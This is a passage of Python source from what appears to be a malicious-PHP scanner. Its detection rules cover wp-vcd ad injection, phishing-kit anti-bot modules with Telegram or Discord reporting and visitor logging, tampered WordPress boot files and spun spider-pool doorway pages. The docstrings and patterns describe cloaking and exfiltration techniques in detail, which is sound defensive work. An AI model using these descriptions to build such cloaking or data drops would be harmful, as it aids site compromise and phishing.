    also looks the address up in what it kept (``stripos($seen, $_SERVER['REMOTE_ADDR'])``,
    ``in_array($ip, $ips)``): visitors (or the site's administrators) known by their
    address from one visit to the next; -1 if not."""
    if not has_any(ctx, _KEEPS_VALUE):
        return -1
    reads, held = _ip_texts(ctx)
    if not reads:
        return -1
    kept = [
        start
        for start, args in calls_to(ctx, _KEEPS_VALUE, 50)
        if _mentions_ip(args[: close_paren(args)], reads, held)
    ]
    if not kept:
        return -1
    looked_up = any(
        _mentions_ip(args[: close_paren(args)], reads, held)
        for _, args in calls_to(ctx, _HOLDS_TESTS, 100)
    )
    return kept[0] if looked_up else -1


@feature("search_visitor_script")
def _search_visitor_script(ctx: Ctx, rule: Rule) -> Hit | None:
    """A script of another host (an ad network's tag, a redirect to an absolute address)
    written into the page by a file that tests the referrer for search engines and keeps
    a memory of whom to spare: the site's signed-in users or administrators marked with a
    cookie of their own (set in a block that picks them, so that they are spared even once
    signed out), or visitors' addresses written to a file or an option and looked up again
    (each sees it once; the owner's address kept): the ad injection of a hacked WordPress
    site (wp-vcd) that shows its scripts to the visitors search engines send and never to
    the people who run the site. An analytics tag skips signed-in users without a referrer
    test; an ad plugin that shows its settings' ad code to search visitors writes no
    script of its own; a firewall that keeps addresses prints no script."""
    if prefiltered_search(_FOREIGN_SCRIPT, string_text(ctx)) is None:
        return None
    test = next(_search_referer_tests(ctx), -1)
    if test < 0:
        return None
    memory = _owner_cookie_set(ctx)
    if memory < 0:
        memory = _visitor_ip_remembered(ctx)
    if memory < 0:
        return None
    return Hit(ctx.line_of_code(test), ctx.excerpt_code(test, test + 120))


# the anti-bot module of a phishing kit, included by its file's name: antibot.php,
# anti-bots.php, blocker.php, bot_blocker.php, anti/anti3.php
_GUARD_MODULE = tight(
    rb"(?:^|[/\\])(?:anti[-_]?bots?|(?:bots?[-_]?)?blocker|anti[-_]?\d{1,2})\.php$"
)
_APPEND_WRITES = (b"fwrite", b"fputs", b"file_put_contents")


def _guard_included(ctx: Ctx) -> re.Match[bytes] | None:
    """The first include of a literal path whose file is named as a kit's anti-bot module."""
    code = ctx.code
    value = ctx.lx.value
    for m in itertools.islice(prefiltered_finditer(INCLUDE_LIT, code, ctx.first), 60):
        if m.start() and code[m.start() - 1] in NOT_CALL_BEFORE:
            continue
        if _GUARD_MODULE.search(value(int(m.group(1))).strip().lower()) is not None:
            return m
    return None


def _visitor_logged(ctx: Ctx) -> bool:
    """A write appended to a file (fopen(..., 'a'), FILE_APPEND) whose text holds the
    visitor's address or user agent, read there or through the variables that build it."""
    for start, args in calls_to(ctx, _APPEND_WRITES, 40):
        parts = top_args(args)
        if appended_path(ctx, start, parts) is None:
            continue
        text = _sent_text(ctx, b" , ".join(parts[1:2]), 3)
        if _literals_named_visitor(ctx, text):
            return True
    return False


@feature("kit_guard_included")
def _kit_guard_included(ctx: Ctx, rule: Rule) -> Hit | None:
    """A page of a phishing kit: it loads the kit's anti-bot module (``include
    'antibots.php'``, ``require '../blocker.php'``, ``include 'anti/anti3.php'``: the script
    that turns away security scanners and crawlers) and does to its visitor what kits do:
    looks the visitor's address up at an IP-geolocation or ISP service, appends the visitor's
    address or browser to a log file, or reports to a Telegram bot or a Discord webhook. A
    site's own anti-spam captcha (also called antibot) guards a form it handles for itself."""
    guard = _guard_included(ctx)
    if guard is None:
        return None
    text = string_text(ctx)
    geo = _GEO_LOOKUP.search(text)
    if geo is not None and _visitor_named(text):
        act = b"the visitor located at " + geo.group(0)
    elif _chat_drop(text):
        act = b"reports to a chat bot"
    elif _visitor_logged(ctx):
        act = b"the visitor's address logged to a file"
    else:
        return None
    at = guard.start()
    shown = b"include " + ctx.lx.value(int(guard.group(1))).strip()
    return Hit(ctx.line_of_code(at), excerpt(shown + b"; " + act))


# WordPress's own start-up files, which every page runs and which fetch nothing
_WP_BOOT_FILES = frozenset(
    {"wp-blog-header.php", "wp-load.php", "wp-settings.php", "wp-config.php"}
)
_WP_FRONT = tight(rb"(?<![\w$>:])(?:require|include)(?:_once)?\b[^;]{0,80}\x01(\d+)\x01")
_BOOT_FETCHERS = (b"file_get_contents", b"wp_remote_get", b"wp_remote_request", b"curl_exec",
             b"file", b"fopen", b"readfile")  # fmt: skip
_BOOT_PRINTS = tight(rb"(?<![\w$>:])(?:echo|print|printf|readfile)\b")


def _wp_boot_file(ctx: Ctx) -> bool:
    """The file is one of WordPress's start-up files by its name, or the front index.php
    that loads wp-blog-header.php."""
    base = ctx.name.replace("\\", "/").rsplit("/", 1)[-1].lower()
    if base in _WP_BOOT_FILES:
        return True
    if base != "index.php" or ctx.first(b"require") < 0:
        return False
    return any(
        ctx.lx.value(int(m.group(1))).lower().endswith(b"wp-blog-header.php")
        for m in itertools.islice(_WP_FRONT.finditer(ctx.code), 5)
    )


@feature("wp_boot_prints_remote")
def _wp_boot_prints_remote(ctx: Ctx, rule: Rule) -> Hit | None:
    """One of WordPress's start-up files (wp-blog-header.php, wp-load.php, wp-settings.php,
    wp-config.php, the front index.php), which every page of the site runs, fetches a web
    address written in it and prints what it gets: code added to the core so that every page
    carries the operator's links or scripts (WordPress's own start-up files fetch nothing; a
    plugin or theme shows remote content through its own files)."""
    if not _wp_boot_file(ctx) or _BOOT_PRINTS.search(ctx.code) is None:
        return None
    fetch = calls_to(ctx, _BOOT_FETCHERS, 20)
    if not fetch:
        return None
    text = string_text(ctx)
    web = _WEB_ADDRESS.search(text)
    if web is None:
        return None
    start = fetch[0][0]
    return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 80))


# a crawler named in a literal: the search engines' spiders, or the word itself
_SPIDER_NAMES = tight(
    rb"spider|googlebot|bingbot|baiduspider|sogou|yandex|slurp|360spider|bytespider"
)
# the names a statement gives the list before file(): $keywords = $bak_keywords = file(...)
_CHAINED_TO = tight(rb"\$(" + NAME_P + rb")\s*=(?![=>])\s*(?=\$|$)")
# a preg_replace() inside the block of a loop opened just before it (no block closed since)
_LOOP_OPEN = tight(rb"(?:for|while)\s*\([^{};]*(?:;[^{};]*){0,2}\)\s*\{[^{}]*$")
# a random element of a list, inline: $kw[mt_rand(0, count($kw) - 1)], $kw[array_rand($kw)]
_INLINE_PICK = tight(
    rb"\$(" + NAME_P + rb")\s*\[[^\]]{0,80}?(?:rand|random_int|array_rand)\s*\("
)
_OWN_PICK = tight(rb"(?<![\w$>:])(" + NAME_P + rb")\s*\(\s*\$(" + NAME_P + rb")\s*\)")
_RANDOM_CALL = tight(rb"(?<![\w$>:])(?:mt_rand|rand|array_rand|random_int|shuffle)\s*\(")
_RETURNS_ELEMENT = tight(rb"return\s+\$" + NAME_P + rb"\s*\[")


def _random_pickers(ctx: Ctx) -> set[bytes]:
    """The file's own functions that return a random element of the list they are given
    (``function pick($a) { return $a[mt_rand(0, count($a) - 1)]; }``), also through a helper
    of their own that draws the index (``return $a[rand_index($a)];``): two levels."""
    bodies = {n: b for n, b in itertools.islice(function_bodies(ctx).items(), 60) if len(b) < 600}
    draws = {n for n, b in bodies.items() if _RANDOM_CALL.search(b) is not None}
    out = set()
    for name, body in bodies.items():
        if _RETURNS_ELEMENT.search(body) is None:
            continue
        if name in draws or any(
            c.group(1) in draws for c in itertools.islice(_OWN_CALL.finditer(body), 8)
        ):
            out.add(name)
    return out


@feature("spun_template_doorway")
def _spun_template_doorway(ctx: Ctx, rule: Rule) -> Hit | None:
    """A spider pool's doorway: in a script that reads the user agent and names crawlers, a
    template's placeholders are filled one occurrence at a time in a loop
    (``preg_replace('/<kw>/', pick($keywords), $tpl, 1)``), each by an item picked at random
    from a word list the script keeps in a file, from two lists or more (keywords,
    sentences, link targets): a new page of spun spam for every address a crawler asks. A
    site's tagline or quote of the day is one pick from one list; a page generator for tests
    names no crawler."""
    text = string_text(ctx)
    if find(text, b"http_user_agent") < 0 or _SPIDER_NAMES.search(text) is None:
        return None
    code = ctx.code
    lists: set[bytes] = set()
    for m in file_lists(code):
        lists.add(m.group(1) or m.group(2))
        statement = code[code.rfind(b";", 0, m.start()) + 1 : m.start()]
        lists.update(_CHAINED_TO.findall(statement))
    if len(lists) < 2:
        return None
    pickers: set[bytes] | None = None
    filled: set[bytes] = set()
    first = -1
    for start, args in calls_to(ctx, (b"preg_replace",), 200):
        parts = top_args(args)
        if len(parts) != 4 or parts[3].strip() != b"1":
            continue
        if _LOOP_OPEN.search(code, max(0, start - 240), start) is None:
            continue
        repl = parts[1]
        picked = {p.group(1) for p in _INLINE_PICK.finditer(repl)} & lists
        if not picked:
            if pickers is None:
                pickers = _random_pickers(ctx)
            picked = {
                p.group(2) for p in _OWN_PICK.finditer(repl) if p.group(1) in pickers
            } & lists
        if not picked:
            continue
        filled |= picked
        if first < 0:
            first = start
        if len(filled) >= 2:
            return Hit(ctx.line_of_code(first), ctx.excerpt_code(first, first + 100))
    return None
